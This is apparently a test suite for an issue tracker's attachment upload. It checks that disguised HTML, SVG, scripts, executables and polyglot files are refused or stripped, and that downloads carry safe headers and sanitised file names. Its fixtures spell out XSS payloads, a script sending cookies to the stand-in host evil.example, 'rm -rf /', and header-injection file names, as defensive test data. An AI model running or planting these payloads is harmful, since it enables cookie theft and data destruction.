import sharp from 'sharp';
import { attached, attachmentsFor, download, filesIn, upload } from '../support/attaching.js';
import { type Cast, Stories, type Told } from '../support/issue-stories.js';
import { gb18030, office, pdf, photo, text, zip } from '../support/sample-files.js';
import { startApp, type TestApp } from '../support/test-app.js';

// FreeScout CVE-2026-32754, Zammad CVE-2018-1000154: pages, drawings and scripts among the attachments, and a script
// upload that beats the policy of the site that serves it.
const SCRIPT = '<script>alert(document.domain)</script>';

let t: TestApp;
let cast: Cast;
let issue: Told;
beforeAll(async () => {
  t = await startApp();
  ({ cast } = await Stories.of(t));
  issue = await cast.mill.submits();
});
afterAll(() => t.close());

const hex = (digits: string): Buffer => Buffer.from(digits.replaceAll(' ', ''), 'hex');

const HOSTILE: Readonly<Record<string, readonly [name: string, content: Buffer]>> = {
  'a page': ['a.html', text(`<!DOCTYPE html>${SCRIPT}`)],
  'a page called a text': ['a.txt', text(`  \n<html>${SCRIPT}`)],
  'a page after a byte order mark': ['a.txt', text(`\ufeff<!-- x -->${SCRIPT}`)],
  'a page called a picture': ['a.jpg', text(`<html>${SCRIPT}`)],
  'a drawing': ['a.svg', text(`<svg xmlns="http://www.w3.org/2000/svg">${SCRIPT}</svg>`)],
  'a drawing called a picture': ['a.png', text(`<?xml version="1.0"?><svg onload="alert(1)"/>`)],
  'a drawing called a table': ['a.csv', text(`<svg onload="alert(1)"/>`)],
  'a script': ['a.js', text('fetch("//evil.example/" + document.cookie)')],
  'a script called a picture': ['a.webp', text('alert(1)')],
  'a shell script called a text': ['a.txt', text('#!/bin/sh\nrm -rf /\n')],
  'a batch file': ['a.bat', text('del *.*')],
  'a page in UTF-16': ['a.txt', Buffer.from(`\ufeff<script>alert(1)</script>`, 'utf16le')],
  'a page in UTF-7': ['a.html', text('+ADw-script+AD4-alert(1)+ADw-/script+AD4-')],
  'a program of Windows': ['a.pdf', Buffer.concat([text('MZ'), Buffer.alloc(200, 1)])],
  'a program of Linux': ['a.docx', hex('7f45 4c46 0201 0100 0000 0000 0000 0000 0200 3e00 0100 0000')],
  'an archive': ['a.zip', zip({ 'a.txt': 'x' })],
  'an archive called a document': ['a.docx', zip({ 'a.exe': 'MZ' })],
  'a document with macros': [
    'a.docx',
    zip({
      '[Content_Types].xml':
        '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">' +
        '<Override PartName="/word/document.xml" ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/>' +
        '</Types>',
      'word/document.xml': '<x/>',
    }),
  ],
  'a Java archive': ['a.jar', zip({ 'META-INF/MANIFEST.MF': 'Main-Class: A' })],
  'a picture of another kind': ['a.jpg', hex('4749 4638 3961 0100 0100 0000 003b')],
  'a PDF that is an archive as well': ['a.pdf', Buffer.concat([pdf(), zip({ 'a.exe': 'MZ' })])],
  'a PDF that begins late': ['a.pdf', Buffer.concat([text(`<html>${SCRIPT}`), pdf()])],
  'a text with a NUL': ['a.txt', text('a\0b')],
  'a text that speaks to the terminal': ['a.txt', text('\u001b]0;x\u0007')],
  'no text in any encoding': ['a.txt', hex('ff fe fd 80 81 ff')],
};

it.each(Object.entries(HOSTILE))(
  '%s is not taken, whatever is declared, and leaves nothing',
  async (_, [name, content]) => {
    const before = filesIn(t.dataDir);
    for (const declared of ['image/png', 'text/plain', 'application/pdf']) {
      const answer = await upload(cast.mill.as, issue, content, { name, declared });
      expect([answer.status, (answer.body as { code: string }).code]).toEqual([415, 'attachment.type']);
    }
    expect(filesIn(t.dataDir)).toEqual(before);
    expect(await attachmentsFor(cast.mill.as, issue)).toEqual([]);
  },
);

it.each(['jpeg', 'png', 'webp'] as const)('what hides in a picture (%s) is gone', async (format) => {
  const own = await cast.mill.submits();
  const polyglot = Buffer.concat([await photo(format), text(`/*${SCRIPT}*/`), zip({ 'a.exe': 'MZ' })]);
  const made = await attached(cast.mill.as, own, polyglot, { name: 'a.html' });
  const { body } = await download(cast.mill.as, own, made).expect(200);
  const drawn = body as Buffer;
  for (const hidden of [SCRIPT, 'PK\x03\x04', 'SecretCamera']) expect(drawn.includes(hidden)).toBe(false);
  expect(await sharp(drawn).metadata()).toMatchObject({ format });
  expect(made.name).toBe(`a.${format === 'jpeg' ? 'jpg' : format}`);
});

it.each([
  ['a.jpg', () => photo()],
  ['a.pdf', () => pdf(SCRIPT)],
  ['a.docx', () => office('docx')],
  ['a.txt', () => text(`alert(1) // ${SCRIPT}`)],
  ['a.csv', () => gb18030],
])('%s comes back so that no browser shows it, runs it or takes it for something else', async (name, content) => {
  const own = await cast.mill.submits();
  const made = await attached(cast.mill.as, own, await content(), { name });
  const { headers } = await download(cast.mill.as, own, made).expect(200);
  expect(headers['content-disposition']).toMatch(/^attachment; /);
  expect(headers['x-content-type-options']).toBe('nosniff');
  expect(headers['content-security-policy']).toBe("sandbox; default-src 'none'");
  expect(headers['cross-origin-resource-policy']).toBe('same-origin');
  // Neither a script nor a style of any site, ours included: with nosniff a browser demands these types for them.
  expect(headers['content-type']).not.toMatch(/javascript|ecmascript|json|css|html|xml(;|$)|svg/);
});

it('a name that is markup, a header or an override stays a name', async () => {
  const own = await cast.mill.submits();
  const names = [
    '<img src=x onerror=alert(1)>.txt',
    'a"; filename="b.html.txt',
    'a\u202eexe.txt',
    'javascript:alert(1).txt',
    `${'长'.repeat(300)}.txt`,
  ];
  for (const name of names) {
    const made = await attached(cast.mill.as, own, text(), { name });
    expect(made.name).not.toMatch(/[<>":\p{Cc}\p{Cf}]/u);
    expect([...made.name].length).toBeLessThanOrEqual(150);
    expect(made.name).toMatch(/\.txt$/);
    const { headers } = await download(cast.mill.as, own, made).expect(200);
    expect(headers['content-disposition']).toMatch(
      /^attachment; filename="[^"\r\n]*\.txt"; filename\*=UTF-8''[\w.~%-]+$/,
    );
  }
});
